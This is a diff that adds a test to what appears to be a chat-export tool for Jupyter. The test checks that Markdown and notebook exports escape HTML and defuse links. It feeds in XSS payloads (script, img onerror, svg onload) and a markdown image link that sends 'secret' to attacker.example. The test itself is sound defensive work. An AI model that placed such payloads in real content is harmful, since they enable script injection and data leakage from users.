@@ -153,3 +153,24 @@ def test_importing_exchange_loads_neither_litellm_nor_nbformat():
     code = "import sys, oblix_jupyter.exchange; print(sorted({'litellm', 'nbformat'} & set(sys.modules)))"
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=dict(os.environ), check=True)
     assert out.stdout.strip() == "[]"
+
+
+HOSTILE = '<img src=x onerror="alert(1)"> and ![leak](https://attacker.example/?q=secret) and `<b>code</b>`'
+
+
+def test_exports_keep_html_as_text_open_untrusted_and_import_back_exactly(store, tmp_path):
+    session_id = store.create_session(title="<script>alert('title')</script>")
+    store.save_message(session_id, HOSTILE)
+    store.save_message(session_id, "fine", role="assistant", model="<svg onload=alert(1)>")
+
+    markdown = pathlib.Path(export_session(store, session_id, tmp_path / "chat.md")).read_text()
+    assert "# &lt;script>alert('title')&lt;/script>" in markdown
+    assert "&lt;img src=x onerror=\"alert(1)\"> and [leak](https://attacker.example/?q=secret) and `<b>code</b>`" in markdown
+    assert "**Assistant** · &lt;svg onload=alert(1)>" in markdown
+
+    path = export_session(store, session_id, tmp_path / "chat.ipynb")
+    notebook = nbformat.read(path, as_version=4)
+    assert all(cell.cell_type == "markdown" and "outputs" not in cell for cell in notebook.cells)  # nothing to trust
+    assert "&lt;img src=x" in notebook.cells[0].source and "![leak]" not in notebook.cells[0].source
+    copy_id = import_session(store, path)
+    assert [m["content"] for m in store.get_session(copy_id)["messages"]] == [HOSTILE, "fine"]
